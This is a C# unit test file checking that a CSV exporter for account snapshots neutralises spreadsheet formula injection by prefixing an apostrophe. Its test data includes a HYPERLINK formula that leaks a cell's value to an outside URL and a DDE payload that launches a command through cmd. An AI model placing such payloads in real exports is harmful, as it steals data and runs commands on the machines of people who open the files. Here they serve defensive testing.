using System.Text;
using AccountSnapshots.Aggregation;
using AccountSnapshots.Api;
using AccountSnapshots.Model;
using AccountSnapshots.Upstream;

namespace AccountSnapshots.Tests.Api;

/// <summary>The CSV export's guard against spreadsheet formula injection (issue 16, item 1).</summary>
public sealed class AggregateCsvWriterTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"https://x/?\"&D2,\"Acme\")", "\"'=HYPERLINK(\"\"https://x/?\"\"&D2,\"\"Acme\"\")\"")]
    [InlineData("+1+cmd", "\"'+1+cmd\"")]
    [InlineData("-2+3", "\"'-2+3\"")]
    [InlineData("@SUM(A1)", "\"'@SUM(A1)\"")]
    [InlineData("\tTab", "\"'\tTab\"")]
    [InlineData("\rCR", "\"'\rCR\"")]
    [InlineData("Acme = fine", "Acme = fine")]
    public void Text_columns_that_start_like_a_formula_get_a_leading_apostrophe_and_quotes(string name, string expectedField)
    {
        var csv = Write(name, network: null, amount: "12.5");

        var row = csv.Split("\r\n")[1];
        Assert.Equal($"conduit,acct_1,client_1,{expectedField},USD,,12.5,ok,2026-11-21T06:30:00Z", row);
    }

    [Fact]
    public void Every_text_column_is_guarded_but_a_negative_amount_stays_exact()
    {
        var csv = Write("Plain", network: "=cmd|' /C calc'!A0", amount: "-12.5");

        Assert.Equal("conduit,acct_1,client_1,Plain,USD,\"'=cmd|' /C calc'!A0\",-12.5,ok,2026-11-21T06:30:00Z", csv.Split("\r\n")[1]);
    }

    private static string Write(string name, string? network, string amount)
    {
        var at = new DateTimeOffset(2026, 11, 21, 6, 30, 0, TimeSpan.Zero);
        var document = new AggregateDocument
        {
            GeneratedAt = at,
            Sources = [new SourceStatus { Source = SourceNames.Conduit, Status = SourceStatusValues.Ok, SnapshotAt = at, LastAttemptAt = at, AccountCount = 1 }],
            Accounts =
            [
                new AccountRecord { Source = SourceNames.Conduit, Id = "acct_1", ClientId = "client_1", Name = name, Balances = [new BalanceRecord("USD", network, amount)] },
            ],
            Totals = [],
            Alerts = [],
        };
        return Encoding.UTF8.GetString(AggregateCsvWriter.Write(document));
    }
}
